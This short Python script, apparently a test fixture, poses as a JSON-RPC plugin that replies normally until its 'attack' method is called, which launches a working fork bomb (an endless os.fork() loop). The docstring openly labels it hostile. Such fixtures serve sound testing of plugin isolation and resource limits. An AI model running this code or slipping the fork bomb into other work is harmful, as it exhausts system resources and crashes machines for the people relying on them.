"""A hostile plugin: it answers like any other until its method "attack" is called.

The attack: processes without end. Never run it bare.
"""

import json
import os
import sys


def attack():
    while True:
        try:
            os.fork()
        except OSError:
            pass


for line in sys.stdin:
    request = json.loads(line)
    if "id" not in request:
        continue
    result = attack() if request.get("method") == "attack" else "at your service"
    print(json.dumps({"jsonrpc": "2.0", "id": request["id"], "result": result}), flush=True)
